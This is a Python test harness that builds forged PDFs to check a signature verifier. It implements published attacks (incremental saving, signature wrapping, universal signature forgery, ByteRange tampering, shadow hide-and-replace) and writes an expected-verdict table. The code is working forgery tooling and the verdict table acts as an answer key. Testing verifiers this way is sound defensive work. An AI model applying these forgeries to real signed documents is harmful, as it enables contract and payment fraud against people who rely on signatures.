#!/usr/bin/env python3
"""Attack corpus against PDF signature verification, by plain byte editing.

"PDF Insecurity" (Mladenov et al. 2019: incremental saving, signature
wrapping, universal signature forgery) and "Shadow Attacks" (Mainka et al.
2021: hide, replace, hide-and-replace), built from seals the test made.

  attacks.py prepare BASE OUTDIR
      writes OUTDIR/form.pdf (BASE with a text field) and OUTDIR/shadow.pdf
      (BASE with a shadow content stream and a shadow document that nothing
      references): the test seals them, as a victim would.
  attacks.py build SEALDIR OUTDIR
      SEALDIR holds bb.pdf (B-B seal of BASE), lta.pdf (B-LTA seal),
      form.pdf and shadow.pdf (B-B seals of the prepared files) and,
      optionally, untrusted.pdf, vis.pdf (a visible B-B seal) and
      cert1.pdf, cert2.pdf, cert3.pdf
      (certification seals, DocMDP P=1/2/3, of the prepared form.pdf);
      writes the attack files into OUTDIR and
      OUTDIR/expected.tsv: file, document verdict, per-signature
      "verdict/failure" list, and what the check is about.

Only Python's standard library. The base document must use classic xref
tables and page 1 must be a plain dictionary (libreoffice-letter.pdf).
"""
import os
import re
import sys


def objs_at(data, num):
    """Offsets of every 'num 0 obj' header in data."""
    return [m.start() for m in re.finditer(rb'(?<![0-9])%d 0 obj' % num, data)]


def body(data, num):
    """The latest definition of object num (the text between obj/endobj)."""
    offs = objs_at(data, num)
    if not offs:
        raise SystemExit('object %d not found' % num)
    start = data.index(b'obj', offs[-1]) + 3
    end = data.index(b'endobj', start)
    return data[start:end].strip()


def last_startxref(data):
    i = data.rindex(b'startxref')
    return int(data[i + 9:].split()[0])


def trailer_key(data, key):
    i = data.rindex(b'trailer')
    m = re.search(rb'/' + key + rb'\s+(\d+)(?:\s+0\s+R)?', data[i:])
    return int(m.group(1))


def root(data):
    return trailer_key(data, b'Root')


def ref(d, key):
    m = re.search(rb'/' + key + rb'\s+(\d+)\s+0\s+R', d)
    return int(m.group(1)) if m else None


def page1(data):
    pages = body(data, ref(body(data, root(data)), b'Pages'))
    m = re.search(rb'/Kids\s*\[\s*(\d+)\s+0\s+R', pages)
    return int(m.group(1))


def update(data, objs, xref=True, old_startxref=False, trailer_extra=b'',
           xref_only=None):
    """Appends one incremental update: objs {num: body bytes}; xref_only
    {num: offset} adds entries without writing objects."""
    out = bytearray(data)
    if not out.endswith(b'\n'):
        out += b'\n'
    offs = {}
    for num, b in sorted(objs.items()):
        offs[num] = len(out)
        out += b'%d 0 obj\n' % num + b + b'\nendobj\n'
    offs.update(xref_only or {})
    if not xref:
        return bytes(out)
    prev = last_startxref(data)
    size = max([trailer_key(data, b'Size')] + [n + 1 for n in offs])
    xo = len(out)
    out += b'xref\n'
    for num in sorted(offs):
        out += b'%d 1\n%010d 00000 n \n' % (num, offs[num])
    rt = trailer_extra if b'/Root' in trailer_extra else \
        b'/Root %d 0 R ' % root(data) + trailer_extra
    out += b'trailer\n<< /Size %d %s /Prev %d >>\nstartxref\n%d\n%%%%EOF\n' % (
        size, rt, prev, prev if old_startxref else xo)
    return bytes(out)


def stream(content, extra=b''):
    return b'<< /Length %d %s>>\nstream\n' % (len(content), extra) + \
        content + b'\nendstream'


FORGED = b'BT /F1 24 Tf 72 700 Td (PAY 1.000.000 TO MALLORY) Tj ET'


def set_annots(pagebody, extra_refs):
    """The page dictionary with refs appended to its direct /Annots."""
    m = re.search(rb'/Annots\s*\[([^\]]*)\]', pagebody)
    add = b' '.join(b'%d 0 R' % r for r in extra_refs)
    if m:
        return pagebody[:m.end(1)] + b' ' + add + pagebody[m.end(1):]
    i = pagebody.rindex(b'>>')
    return pagebody[:i] + b'/Annots [' + add + b'] ' + pagebody[i:]


def add_text_field(data, text=b'PAID'):
    """An update adding a new text field on page 1 whose appearance
    draws text over the page (a form in the catalog's direct /AcroForm)."""
    rootn, p1 = root(data), page1(data)
    nf = trailer_key(data, b'Size')
    nap = nf + 1
    cat = re.sub(rb'/Fields\s*\[', b'/Fields [%d 0 R ' % nf, body(data, rootn))
    return update(data, {
        rootn: cat,
        p1: set_annots(body(data, p1), [nf]),
        nf: b'<< /Type /Annot /Subtype /Widget /FT /Tx /T (note) /V (%s) '
            b'/Rect [72 700 400 740] /P %d 0 R /AP << /N %d 0 R >> >>' % (
                text, p1, nap),
        nap: stream(b'BT /Helv 24 Tf 2 8 Td (%s) Tj ET' % text,
                    b'/Type /XObject /Subtype /Form /BBox [0 0 328 40] '),
    })


def sig_dict_num(data):
    """Number of the (first) signature dictionary: the object holding
    /ByteRange."""
    i = data.index(b'/ByteRange')
    heads = list(re.finditer(rb'(?<![0-9])(\d+) 0 obj', data[:i]))
    return int(heads[-1].group(1))


def byte_range(data, which=0):
    ms = list(re.finditer(rb'/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]', data))
    m = ms[which]
    return m, [int(m.group(k)) for k in range(1, 5)]


def same_len(old, new):
    if len(new) > len(old):
        raise SystemExit('replacement longer than original')
    return new + b' ' * (len(old) - len(new))


def edit_byte_range(data, newtext):
    m, _ = byte_range(data)
    span = data[m.start():m.end()]
    # keep the padding spaces the writer left after the array
    j = m.end()
    while data[j:j + 1] == b' ':
        j += 1
    old = data[m.start():j]
    return data[:m.start()] + same_len(old, newtext) + data[j:]


# ---- prepare -----------------------------------------------------------

def prepare(base, outdir):
    data = open(base, 'rb').read()
    rootn = root(data)
    size = trailer_key(data, b'Size')
    p1 = page1(data)
    # a text field on page 1, empty
    f, ap = size, size + 1
    cat = body(data, rootn)
    cat2 = cat[:cat.rindex(b'>>')] + b'/AcroForm << /Fields [%d 0 R] /DA (/Helv 0 Tf 0 g) >> >>' % f
    form = update(data, {
        rootn: cat2,
        p1: set_annots(body(data, p1), [f]),
        f: b'<< /Type /Annot /Subtype /Widget /FT /Tx /T (amount) /V (100) '
           b'/Rect [72 600 300 630] /P %d 0 R /AP << /N %d 0 R >> >>' % (p1, ap),
        ap: stream(b'/Tx BMC BT /Helv 12 Tf 2 8 Td (100) Tj ET EMC',
                   b'/Type /XObject /Subtype /Form /BBox [0 0 228 30] '),
    })
    open(os.path.join(outdir, 'form.pdf'), 'wb').write(form)
    # shadow: a second definition of page 1's content stream that no xref
    # lists, and a whole shadow document (catalog, pages, page, content)
    # that nothing references
    content = ref(body(data, p1), b'Contents')
    s = size
    shadow_cat, shadow_pages, shadow_page, shadow_content = s, s + 1, s + 2, s + 3
    out = bytearray(data)
    shadow_off = len(out)
    out += b'%d 0 obj\n' % content + stream(FORGED) + b'\nendobj\n'
    res = re.search(rb'/Resources\s+(\d+\s+0\s+R|<<.*?>>)', body(data, p1), re.S)
    shadow = update(bytes(out), {
        shadow_cat: b'<< /Type /Catalog /Pages %d 0 R >>' % shadow_pages,
        shadow_pages: b'<< /Type /Pages /Kids [%d 0 R] /Count 1 >>' % shadow_page,
        shadow_page: b'<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] '
                     b'/Resources %s /Contents %d 0 R >>' % (
                         shadow_pages, res.group(1) if res else b'<< >>',
                         shadow_content),
        shadow_content: stream(FORGED),
    })
    open(os.path.join(outdir, 'shadow.pdf'), 'wb').write(shadow)
    open(os.path.join(outdir, 'shadow.info'), 'w').write(
        '%d %d %d\n' % (content, shadow_off, shadow_cat))


# ---- build ---------------------------------------------------------------

def build(sealdir, outdir):
    rows = []

    def emit(name, data, verdict, sigs, what):
        open(os.path.join(outdir, name + '.pdf'), 'wb').write(data)
        rows.append('\t'.join([name, verdict, sigs, what]))

    bb = open(os.path.join(sealdir, 'bb.pdf'), 'rb').read()
    lta = open(os.path.join(sealdir, 'lta.pdf'), 'rb').read()
    p1 = page1(bb)
    content = ref(body(bb, p1), b'Contents')
    size = trailer_key(bb, b'Size')
    sig = sig_dict_num(bb)
    mod = 'invalid/modified_after_signing'

    # genuine files: valid, no alarm
    emit('genuine-bb', bb, 'valid', 'valid/-', 'B-B seal as made')
    emit('genuine-lta', lta, 'valid', 'valid/- valid/-', 'B-LTA seal as made')
    # the same B-LTA seal whose /DSS keeps only certificates and OCSP
    # responses (the CRLs dropped): revocation must come from OCSP
    dss = ref(body(lta, root(lta)), b'DSS')
    emit('genuine-lta-ocsp-only', update(lta, {
        dss: re.sub(rb'/CRLs\s*\[[^\]]*\]', b'', body(lta, dss))}),
        'valid', 'valid/- valid/-', 'B-LTA seal, its /DSS without CRLs')
    # identical rewrites and unreferenced objects change nothing
    emit('identical-rewrite', update(bb, {
        content: body(bb, content), size + 5: b'<< /Unreferenced true >>'}),
        'valid', 'valid/-', 'identical object rewritten, new unreferenced object')

    # incremental saving attack (ISA)
    emit('isa-replace-stream', update(bb, {content: stream(FORGED)}),
         'invalid', mod, "page 1's content stream redefined")
    emit('isa-new-object', update(bb, {
        size: stream(FORGED),
        p1: re.sub(rb'/Contents\s+\d+\s+0\s+R', b'/Contents %d 0 R' % size,
                   body(bb, p1))}),
        'invalid', mod, 'page 1 points to a new content object')
    emit('isa-no-xref', update(bb, {content: stream(FORGED)}, xref=False),
         'invalid', mod, 'redefinition appended without xref section')
    emit('isa-old-startxref', update(bb, {content: stream(FORGED)},
                                     old_startxref=True),
         'invalid', mod, 'new xref section, startxref left at the old one')
    emit('isa-trailing-junk', bb + b'\n%d 0 obj\n' % content + stream(FORGED)
         + b'\nendobj\n', 'invalid', mod,
         'an object appended after the last %%EOF, no xref')
    # the signature dictionary re-declared with a forged /Reason and /M
    sd = body(bb, sig)
    forged = re.sub(rb'/Reason\s*\([^)]*\)', b'/Reason (Forged)', sd)
    forged = re.sub(rb'/M\s*\([^)]*\)', b'/M (D:20301231235959Z)', forged)
    emit('sigdict-redeclared', update(bb, {sig: forged}), 'invalid', mod,
         'signature dictionary re-declared with /Reason and /M forged')
    # changes after a B-LTA document timestamp
    c2 = ref(body(lta, page1(lta)), b'Contents')
    emit('lta-then-content', update(lta, {c2: stream(FORGED)}), 'invalid',
         mod + ' ' + mod, 'content replaced after the document timestamp')
    # annotation only
    an = size
    emit('annotation-only', update(bb, {
        an: b'<< /Type /Annot /Subtype /FreeText /Rect [72 700 400 740] '
            b'/Contents (PAID) /DA (/Helv 24 Tf 1 0 0 rg) >>',
        p1: set_annots(body(bb, p1), [an])}),
        'indeterminate', 'indeterminate/changed_after_signing',
        'a FreeText annotation added over the page')
    # 50 nested updates: identical ones keep it valid, a change in the
    # middle does not
    d = bb
    for _ in range(50):
        d = update(d, {content: body(d, content)})
    emit('nested-50-identical', d, 'valid', 'valid/-',
         '50 updates that rewrite an object identically')
    d = bb
    for i in range(50):
        d = update(d, {content: stream(FORGED) if i == 20 else body(d, content)})
    emit('nested-50-changed', d, 'invalid', mod,
         '50 updates, the 21st replaces the content')

    # /ByteRange and /Contents forgeries (in place, same length)
    _, br = byte_range(bb)
    L = len(bb)
    for name, text, fail in [
            ('br-not-from-zero', b'/ByteRange [1 %d %d %d]' % (br[1] - 1, br[2], br[3]),
             'byte_range_invalid'),
            ('br-negative', b'/ByteRange [0 %d -%d %d]' % (br[1], br[2], br[3]),
             'byte_range_malformed'),
            ('br-three-values', b'/ByteRange [0 %d %d]' % (br[1], br[2]),
             'byte_range_malformed'),
            ('br-reals', b'/ByteRange [0 %d.0 %d %d]' % (br[1], br[2], br[3]),
             'byte_range_malformed'),
            ('br-overlap', b'/ByteRange [0 %d %d %d]' % (br[2] + 2, br[2], br[3]),
             'byte_range_invalid'),
            ('br-beyond-file', b'/ByteRange [0 %d %d %d]' % (br[1], br[2], br[3] + 100),
             'byte_range_invalid'),
            ('br-gap-wider', b'/ByteRange [0 %d %d %d]' % (br[1] - 1, br[2], br[3]),
             'byte_range_invalid'),
            ('br-short-cover', b'/ByteRange [0 %d %d %d]' % (br[1], br[2], br[3] - 20),
             'signed_range_not_a_revision')]:
        emit(name, edit_byte_range(bb, text), 'invalid', 'invalid/' + fail,
             'rewritten ' + text.decode())
    # /Contents: non-zero bytes after the DER, and a whole object in there
    cs, ce = br[1] + 1, br[2] - 1
    hexs = bb[cs:ce]
    z = len(hexs.rstrip(b'0'))
    z += z % 2
    junk = b'DEADBEEF' * 4
    emit('contents-padding', bb[:cs + z + 8] + junk + bb[cs + z + 8 + len(junk):],
         'invalid', 'invalid/contents_padding_not_zero',
         'non-zero bytes after the CMS in /Contents')
    hidden = (b'%d 0 obj\n' % content + stream(FORGED) + b'\nendobj\n').hex().encode()
    emit('contents-hidden-object', bb[:cs + z + 8] + hidden +
         bb[cs + z + 8 + len(hidden):], 'invalid',
         'invalid/contents_padding_not_zero',
         'a PDF object hidden (hex) in the /Contents padding')
    # signature wrapping: a second /ByteRange-looking dict re-declares the
    # signature with a range whose gap holds more than /Contents
    sw = re.sub(rb'/ByteRange\s*\[[^\]]*\]', b'/ByteRange [0 %d %d %d]' % (
        br[1] - 1, br[2], br[3]), sd)
    emit('sig-wrapping', update(bb, {sig: sw}), 'invalid', mod,
         'signature re-declared with a gap wider than /Contents')
    # universal signature forgery: no /Contents, a null /ByteRange
    for name, a, b_, fail in [
            ('usf-no-contents', rb'/Contents\s*<[0-9A-Fa-f]*>', b'', 'modified_after_signing'),
            ('usf-null-byterange', rb'/ByteRange\s*\[[^\]]*\]', b'/ByteRange null',
             'modified_after_signing')]:
        emit(name, update(bb, {sig: re.sub(a, b_, sd)}), 'invalid',
             'invalid/' + fail, 'signature dictionary re-declared: ' + name)
    # /M edited in place to month 13 (the digest breaks too): the date is
    # refused, not read as another one
    m = re.search(rb'/M\s*\(D:(\d{4})(\d{2})', bb)
    emit('m-malformed', bb[:m.start(2)] + b'13' + bb[m.end(2):], 'invalid',
         'invalid/digest_mismatch', '/M with month 13')
    # the signature's widget re-declared at another place: the answer keeps
    # the signed revision's /Rect and page (t_attacks.sh checks them)
    if os.path.exists(os.path.join(sealdir, 'vis.pdf')):
        vis = open(os.path.join(sealdir, 'vis.pdf'), 'rb').read()
        wf = [int(m.group(1)) for m in re.finditer(rb'(?<![0-9])(\d+) 0 obj', vis)
              if re.search(rb'/FT\s*/Sig', body(vis, int(m.group(1))))][0]
        emit('widget-rect-redeclared', update(vis, {
            wf: re.sub(rb'/Rect\s*\[[^\]]*\]', b'/Rect [100 500 400 600]',
                       body(vis, wf))}), 'invalid', mod,
             "the signature widget's /Rect re-declared")
    # a /Sig field whose dictionary does not parse: listed, not dropped
    emit('sigdict-redeclared-unparsable',
         update(bb, {sig: b'<< /Type /Sig /ByteRange [0 ( '}), 'invalid', mod,
         'the signature dictionary re-declared as something unparsable')
    i = bb.index(b'/Type/Sig', bb.index(b'%d 0 obj' % sig))
    emit('sigdict-unparsable', bb[:i] + b'/Type<Zz>' + bb[i + 9:],
         'invalid', 'invalid/signature_dictionary_unparsable',
         'the signature dictionary edited in place so that it does not parse')
    # a second, broken signature beside the valid one
    f2, v2 = size, size + 1
    rootn = root(bb)
    cat = body(bb, rootn)
    af = ref(cat, b'AcroForm')
    afb = body(bb, af)
    afb2 = re.sub(rb'/Fields\s*\[', b'/Fields [%d 0 R ' % f2, afb)
    emit('second-broken-signature', update(bb, {
        af: afb2,
        f2: b'<< /FT /Sig /T (Forged) /V %d 0 R >>' % v2,
        v2: b'<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter '
            b'/ETSI.CAdES.detached /ByteRange [0 10 20] /Contents <3000> >>'}),
        'invalid', 'invalid/byte_range_malformed valid/-',
        'a second signature field with a broken /ByteRange')

    # shadow attacks, on seals of the prepared documents
    sh = open(os.path.join(sealdir, 'shadow.pdf'), 'rb').read()
    cnum, shadow_off, shadow_cat = map(int, open(
        os.path.join(sealdir, 'shadow.info')).read().split())
    emit('shadow-hide', update(sh, {}, xref_only={cnum: shadow_off}),
         'invalid', mod, 'hide: xref-only update points the content at a '
         'shadow stream already in the signed bytes')
    emit('shadow-hide-and-replace', update(sh, {}, trailer_extra=b'/Root %d 0 R' % shadow_cat,
                                           xref_only={}),
         'invalid', mod, 'hide-and-replace: trailer /Root swapped to a '
         'shadow document already in the signed bytes')
    fm = open(os.path.join(sealdir, 'form.pdf'), 'rb').read()
    fld = [int(m.group(1)) for m in re.finditer(rb'(?<![0-9])(\d+) 0 obj', fm)
           if b'/FT /Tx' in body(fm, int(m.group(1)))][0]
    apn = ref(body(fm, fld), b'N')
    emit('shadow-replace-form', update(fm, {
        fld: body(fm, fld).replace(b'/V (100)', b'/V (1000000)'),
        apn: stream(b'/Tx BMC BT /Helv 12 Tf 2 8 Td (1000000) Tj ET EMC',
                    b'/Type /XObject /Subtype /Form /BBox [0 0 228 30] ')}),
        'indeterminate', 'indeterminate/changed_after_signing',
        'replace: a form field value and appearance changed (form filling)')
    emit('new-field-overlay', add_text_field(fm), 'indeterminate',
         'indeterminate/changed_after_signing',
         'a new text field drawn over the page (not form filling)')
    fres = re.search(rb'/Font\s*<<\s*/(\w+)\s+(\d+)\s+0\s+R', fm)
    if fres is not None:
        fn = int(fres.group(2))
        emit('shadow-replace-font', update(fm, {
            fn: b'<< /Type /Font /Subtype /Type1 /BaseFont /Courier >>'}),
            'invalid', mod, 'replace: a font of the page redefined')
    # certification seals (ISO 32000-1 §12.8.2.2): P=1 no changes, P=2
    # form filling (and signing), P=3 also annotations; page content never
    for p in (1, 2, 3):
        path = os.path.join(sealdir, 'cert%d.pdf' % p)
        if not os.path.exists(path):
            continue
        cd = open(path, 'rb').read()
        fld = [int(m.group(1)) for m in re.finditer(rb'(?<![0-9])(\d+) 0 obj', cd)
               if b'/FT /Tx' in body(cd, int(m.group(1)))][0]
        apn = ref(body(cd, fld), b'N')
        ok = 'valid/-'
        bad = 'invalid/changes_not_permitted'
        emit('cert-p%d-form-fill%s' % (p, '-permitted' if p >= 2 else ''),
             update(cd, {
                 fld: body(cd, fld).replace(b'/V (100)', b'/V (250)'),
                 apn: stream(b'/Tx BMC BT /Helv 12 Tf 2 8 Td (250) Tj ET EMC',
                             b'/Type /XObject /Subtype /Form /BBox [0 0 228 30] ')}),
             'valid' if p >= 2 else 'invalid', ok if p >= 2 else bad,
             'certification P=%d, then a form field filled' % p)
        cp1 = page1(cd)
        an = trailer_key(cd, b'Size')
        emit('cert-p%d-annotation%s' % (p, '-permitted' if p == 3 else ''),
             update(cd, {
                 an: b'<< /Type /Annot /Subtype /Text /Rect [72 700 92 720] '
                     b'/Contents (checked) >>',
                 cp1: set_annots(body(cd, cp1), [an])}),
             'valid' if p == 3 else 'invalid', ok if p == 3 else bad,
             'certification P=%d, then a comment added' % p)
        emit('cert-p%d-new-field' % p, add_text_field(cd), 'invalid', bad,
             'certification P=%d, then a new text field drawn over the page' % p)
        cc = ref(body(cd, cp1), b'Contents')
        emit('cert-p%d-content' % p, update(cd, {cc: stream(FORGED)}),
             'invalid', mod, 'certification P=%d, then page content replaced' % p)
    if os.path.exists(os.path.join(sealdir, 'untrusted.pdf')):
        emit('untrusted-signer', open(os.path.join(sealdir, 'untrusted.pdf'),
                                      'rb').read(),
             'indeterminate', 'indeterminate/untrusted_signer',
             'intact signature by a key no trust anchor vouches for')
    with open(os.path.join(outdir, 'expected.tsv'), 'w') as f:
        f.write('\n'.join(rows) + '\n')


if __name__ == '__main__':
    if len(sys.argv) == 4 and sys.argv[1] == 'prepare':
        prepare(sys.argv[2], sys.argv[3])
    elif len(sys.argv) == 4 and sys.argv[1] == 'build':
        build(sys.argv[2], sys.argv[3])
    else:
        sys.exit(__doc__)
